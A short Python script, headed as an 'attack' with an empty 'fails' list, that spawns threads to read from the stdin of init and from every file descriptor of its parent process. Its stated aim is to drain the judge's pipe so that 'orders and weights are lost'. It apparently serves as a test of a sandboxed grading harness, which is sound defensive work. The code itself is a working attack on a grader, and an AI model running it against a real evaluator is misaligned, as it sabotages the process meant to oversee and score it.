# /// attack
# tries = "reads the judge's own pipe through init's and the parent's descriptors, so that orders and weights are lost"
# fails = []
# ///
import glob
import os
import threading


def drain(place):
    try:
        number = os.open(place, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return
    import time

    for _ in range(400):
        try:
            stolen = os.read(number, 1 << 20)
            if stolen:
                print("stole", len(stolen), "from", place)
        except OSError:
            pass
        time.sleep(0.005)


for place in ["/proc/1/fd/0", "/proc/%d/fd/0" % os.getppid(), *glob.glob("/proc/%d/fd/*" % os.getppid())]:
    threading.Thread(target=drain, args=(place,), daemon=True).start()
